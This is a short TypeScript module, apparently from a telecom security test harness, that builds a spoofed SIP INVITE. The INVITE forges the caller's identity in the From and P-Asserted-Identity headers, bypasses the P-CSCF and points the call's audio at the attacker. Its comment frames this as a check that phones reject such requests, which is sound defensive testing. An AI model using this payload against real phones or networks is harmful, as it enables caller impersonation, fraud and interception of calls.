import { randomBytes } from 'node:crypto';

/**
 * What the attacker element sends for a `spoof-call` step (issue 13): an
 * INVITE straight to a UE's SIP port over UDP from the attacker's address
 * on the UE's access link, past the P-CSCF, claiming another user in From
 * and P-Asserted-Identity, with a plain RTP offer toward the attacker. A UE
 * that took it would ring, display the claimed user as network-asserted,
 * and send its media to the attacker; an IMS UE accepts requests only from
 * its P-CSCF (TS 24.229 sec. 5.1.1.3: over the flow it registered through).
 */
export function spoofedInvite(opts: { from: string; target: { user: string; address: string }; attacker: string; sipPort: number; mediaPort: number }): { callId: string; datagram: Buffer } {
  const { from, target, attacker, sipPort, mediaPort } = opts;
  const tag = randomBytes(6).toString('hex');
  const callId = `spoofed-${tag}@${attacker}`;
  const sdp = [
    'v=0', `o=- ${Date.now()} 1 IN IP4 ${attacker}`, 's=-', `c=IN IP4 ${attacker}`, 't=0 0',
    `m=audio ${mediaPort} RTP/AVP 0`, 'a=rtpmap:0 PCMU/8000', 'a=sendrecv', '',
  ].join('\r\n');
  const text = [
    `INVITE sip:${target.user}@${target.address}:${sipPort} SIP/2.0`,
    `Via: SIP/2.0/UDP ${attacker}:${sipPort};branch=z9hG4bK-${tag};rport`,
    'Max-Forwards: 70',
    `From: <${from}>;tag=${tag}`,
    `To: <sip:${target.user}@${target.address}>`,
    `Call-ID: ${callId}`,
    'CSeq: 1 INVITE',
    `P-Asserted-Identity: <${from}>`,
    `Contact: <${from.replace(/@.*$/, '')}@${attacker}:${sipPort}>`,
    'Content-Type: application/sdp',
    `Content-Length: ${Buffer.byteLength(sdp)}`,
    '', sdp,
  ].join('\r\n');
  return { callId, datagram: Buffer.from(text) };
}
